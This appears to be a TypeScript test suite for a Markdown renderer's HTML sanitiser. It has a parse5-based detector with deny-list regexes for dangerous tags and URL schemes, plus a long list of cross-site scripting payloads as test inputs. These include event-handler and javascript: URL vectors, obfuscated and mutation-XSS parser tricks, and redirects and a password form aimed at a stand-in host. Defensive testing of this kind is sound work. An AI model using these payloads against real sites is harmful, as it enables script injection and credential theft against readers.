import { type DefaultTreeAdapterMap, parseFragment } from 'parse5';
import { renderTestPage } from '../testUtils/renderMarkdown';

type Node = DefaultTreeAdapterMap['node'];

const DANGEROUS =
  /^(?:script|style|link|meta|base|object|embed|applet|i?frame|frameset|form|template|noscript|animate|set|use|foreignObject)$/i;
const RUNS = /^(?:javascript|vbscript|data:(?!image\/))/i;

/** What of a page could run code or leave its frame, as a browser reads it. */
function findDangers(html: string): string[] {
  const found: string[] = [];
  const visit = (node: Node) => {
    if ('tagName' in node) {
      if (DANGEROUS.test(node.tagName)) found.push(`<${node.tagName}>`);
      for (const { name, value } of node.attrs) {
        const plain = value.replace(/[\p{Cc}\s]/gu, '');
        if (/^on|^srcdoc$/i.test(name) || RUNS.test(plain))
          found.push(`${node.tagName} ${name}`);
      }
    }
    if ('childNodes' in node) node.childNodes.forEach(visit);
  };
  visit(parseFragment(html));
  return found;
}

describe('raw HTML that attacks the reader', () => {
  it.each([
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//x.example></SCRIPT>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg/onload=alert(1)//',
    '<img src=x onerror=alert(1)>',
    '<img/src="x"/onerror=alert(1)>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="java&#9;script:alert(1)">a</a>',
    '<a href="&#x6A;avascript:alert(1)">a</a>',
    '<a href="&#1;javascript:alert(1)">a</a>',
    '<a href=" \n javascript:alert(1)">a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    '<math><mtext><a href="javascript:alert(1)">a</a></mtext></math>',
    '<math href="javascript:alert(1)">a</math>',
    '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>',
    '<svg><set attributeName=onmouseover to=alert(1)></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>',
    '<svg><foreignObject><iframe src=//x.example></iframe></foreignObject></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<meta http-equiv=refresh content="0;url=//x.example">',
    '<base href=//x.example/>',
    '<form action=//x.example><input name=password></form>',
    '<button formaction="javascript:alert(1)">a</button>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src=//x.example></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<style>@import "//x.example"</style>',
    '<link rel=stylesheet href=//x.example>',
    '<template><script>alert(1)</script></template>',
    '<details open ontoggle=alert(1)>a</details>',
    '<table background="javascript:alert(1)"><tr><td>a</td></tr></table>',
    '<video poster="javascript:alert(1)"><source onerror=alert(1)></video>',
    '<textarea><script>alert(1)</script></textarea>',
    '<div markdown onclick="alert(1)">\n\n[a](javascript:alert(1))\n\n</div>',
    '</article></main><script>alert(1)</script>',
    '[a](javascript:alert(1))',
    '[a](<java\tscript:alert(1)>)',
    '![a](x){: onerror=alert(1) }',
    '[a](b){: href="javascript:alert(1)" }',
    '[a](b){: href="java\tscript:alert(1)" }',
    '[a](b){: href="data:text/html,x" }',
    '# a {: onclick="alert(1)" }',
    '<b>a</b>\n\n```js title="<img src=x onerror=alert(1)>"\nx\n```',
    '```mermaid\n</code></pre><img src=x onerror=alert(1)>\n```',
    '`#!js <img src=x onerror=alert(1)>`',
    '*[A]: "><img src=x onerror=alert(1)>\n\nA',
    '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  ])('is made harmless: %j', async source => {
    const { html } = await renderTestPage(`Before\n\n${source}\n\nafter`);
    expect(findDangers(html)).toEqual([]);
  });

  it('is found by this test', () => {
    expect(
      findDangers(
        '<p><a href="java\tscript:x">a</a><img onerror=x></p><style>',
      ),
    ).toEqual(['a href', 'img onerror', '<style>']);
  });
});
